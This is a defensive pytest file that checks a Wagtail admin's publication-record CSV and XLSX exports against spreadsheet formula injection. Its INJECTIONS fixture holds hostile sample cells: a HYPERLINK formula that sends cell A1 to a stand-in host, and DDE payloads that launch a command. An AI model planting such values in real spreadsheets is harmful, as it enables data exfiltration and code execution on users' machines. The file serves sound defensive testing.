"""Every spreadsheet the admin exports is safe to open in Excel or LibreOffice: a text cell that
would start a formula (=, +, -, @, tab, CR) gets a leading apostrophe in CSV and is a text cell
in XLSX; negative numbers stay numbers. Catatan penerbitan (Wagtail's generic listing) wrote
them as they were; the fix is on Wagtail's export mixin, so its reports are covered too."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from sop_workflow.models import PublicationRecord
from sop_workflow.spreadsheet import spreadsheet_text

INJECTIONS = {
    "page_title": '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")',
    "published_by_name": "+1+cmd|' /C calc'!A0",
    "alasan_darurat": "@SUM(1+1)*cmd|' /C calc'!A0",
    "catatan_dokumentasi": "-2+3",
    "page_type": "\t=1+1",
}


@pytest.fixture
def records(db):
    PublicationRecord.objects.create(
        page_title=INJECTIONS["page_title"],
        page_type=INJECTIONS["page_type"],
        url="https://kpu-banten.example/berita/a/",
        published_at=timezone.make_aware(datetime.datetime(2026, 11, 24, 9, 0)),
        published_by_name=INJECTIONS["published_by_name"],
        revision_number=3,
        darurat=True,
        alasan_darurat=INJECTIONS["alasan_darurat"],
        catatan_dokumentasi=INJECTIONS["catatan_dokumentasi"],
    )
    PublicationRecord.objects.create(
        page_title="-5",
        page_type="Berita",
        url="https://kpu-banten.example/berita/b/",
        published_at=timezone.make_aware(datetime.datetime(2026, 11, 25, 9, 0)),
        published_by_name="Web Admin",
        revision_number=1,
        catatan_dokumentasi="-1.250,75",
    )


def export(client, fmt):
    response = client.get(reverse("catatan_penerbitan:index"), {"export": fmt})
    assert response.status_code == 200
    content = getattr(response, "streaming_content", None)
    return b"".join(content) if content is not None else response.content


@pytest.mark.django_db
def test_catatan_penerbitan_csv_prefixes_formulas_and_keeps_negative_numbers(admin_client, records):
    text = export(admin_client, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = {cell for row in rows[1:] for cell in row}
    for value in INJECTIONS.values():
        assert "'" + value in cells, value
        assert value not in cells, value
    assert "-5" in cells and "-1.250,75" in cells  # negative numbers, not formulas
    assert "3" in cells  # the revision number as it was


@pytest.mark.django_db
def test_catatan_penerbitan_xlsx_writes_text_cells(admin_client, records):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(export(admin_client, "xlsx"))).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    for value in INJECTIONS.values():
        assert cells[value].data_type == "s", value


def test_the_rule_for_one_cell():
    assert spreadsheet_text("=1+1") == "'=1+1"
    assert spreadsheet_text("\r=1") == "'\r=1"
    assert spreadsheet_text("-1+1") == "'-1+1"
    assert spreadsheet_text("-12") == "-12"
    assert spreadsheet_text("-0,5") == "-0,5"
    assert spreadsheet_text(-7) == -7
    assert spreadsheet_text("Rapat pleno") == "Rapat pleno"
